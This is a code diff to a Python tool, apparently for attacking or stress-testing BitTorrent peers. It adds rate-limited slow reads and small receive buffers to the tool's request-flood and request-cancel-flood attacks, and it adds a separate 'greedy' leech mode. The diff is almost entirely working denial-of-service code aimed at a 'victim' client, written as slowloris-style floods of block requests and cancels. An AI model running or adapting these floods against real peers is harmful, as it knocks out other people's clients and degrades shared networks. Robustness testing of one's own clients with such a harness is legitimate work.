@@ -25,6 +25,7 @@ RETRY_S = 0.5
 LORIS_S = 1.0
 SMALL_BUFFER_BYTES = 4096
 CHUNK_BYTES = 16 * 1024
+SLOW_BYTES_PER_S = 32 * 1024
 PROTOCOL = b"\x13BitTorrent protocol"
 RESERVED = bytes([0, 0, 0, 0, 0, 0x10, 0, 0x05])  # BEP 10, BEP 6, BEP 5
 ALLOWED = b"d1:md11:ut_metadatai2e6:ut_pexi1e11:lt_donthavei3e12:ut_holepunchi4ee4:reqqi2000ee"
@@ -88,11 +89,13 @@ class Attacker:
         while len(self.heard) < len(PROTOCOL) + 48:
             self.hear()
 
-    def hear(self) -> None:
+    def hear(self) -> int:
+        """Read once; return how many bytes that were."""
         data = self.socket.recv(64 * 1024)
         if not data:
             raise HungUpError
         self.heard = (self.heard + data)[-256 * 1024 :]
+        return len(data)
 
     def number_of(self, name: bytes) -> int:
         """Return how the victim numbers an extension; 1 if it did not say."""
@@ -116,20 +119,23 @@ class Attacker:
         while True:
             self.hear()
 
-    def flood(self, unit: bytes | Callable[[], bytes], *, reads: bool = True) -> None:
-        """Send ``unit`` again and again at the rate of a flood."""
+    def flood(self, unit: bytes | Callable[[], bytes], *, reads_per_s: int = 0) -> None:
+        """Send ``unit`` again and again at the rate of a flood; ``reads_per_s`` 0: read all."""
         rate = self.order["flood_kib_per_s"] * 1024
         make = unit if callable(unit) else lambda: unit * max(1, chunk // len(unit))
         chunk = max(64, min(CHUNK_BYTES, rate // 10))
-        allowed, last_s, rest = 0.0, time.monotonic(), b""
+        allowed, may_read, last_s, rest = 0.0, 1.0, time.monotonic(), b""
         self.socket.settimeout(0)
         while True:
             now = time.monotonic()
-            allowed, last_s = min(allowed + (now - last_s) * rate, rate), now
+            allowed = min(allowed + (now - last_s) * rate, rate)
+            may_read = min(may_read + (now - last_s) * reads_per_s, CHUNK_BYTES)
+            last_s = now
             wanted = [self.socket] if rest or allowed > 0 else []
-            readable, writable, _ = select.select([self.socket] if reads else [], wanted, [], 0.1)
+            heard = [self.socket] if may_read > 0 else []
+            readable, writable, _ = select.select(heard, wanted, [], 0.1)
             if readable:
-                self.hear()
+                may_read -= self.hear() if reads_per_s else 0
             if writable:
                 rest = rest or make()
                 sent = self.socket.send(rest)
@@ -489,12 +495,21 @@ def interested_only(self: Attacker) -> None:
     self.idle()
 
 
-@attack("request-floods", "request-flood")
-def request_flood(self: Attacker) -> None:
-    """Ask for blocks without end, whether choked or not; take what comes."""
+@attack("greedy", "greedy")
+def greedy(self: Attacker) -> None:
+    """Ask for blocks without end and take all that comes, as any fast leech does."""
     self.enter()
     self.socket.sendall(message(2))
     self.flood(lambda: b"".join(self.block_request() for _ in range(64)))
+
+
+@attack("request-floods", "request-flood")
+def request_flood(self: Attacker) -> None:
+    """Ask for blocks without end, whether choked or not; take 32 KiB a second."""
+    self.enter(receive_buffer=SMALL_BUFFER_BYTES)
+    self.socket.sendall(message(2))
+    flood = lambda: b"".join(self.block_request() for _ in range(64))  # noqa: E731
+    self.flood(flood, reads_per_s=SLOW_BYTES_PER_S)
 
 
 @attack("request-floods", "request-cancel-flood")
@@ -506,7 +521,7 @@ def request_cancel_flood(self: Attacker) -> None:
         request = self.block_request()
         return (request + b"\x00\x00\x00\x0d\x08" + request[5:]) * 16
 
-    self.flood(unit)
+    self.flood(unit, reads_per_s=SLOW_BYTES_PER_S)
 
 
 @attack("request-floods", "request-invalid-flood")
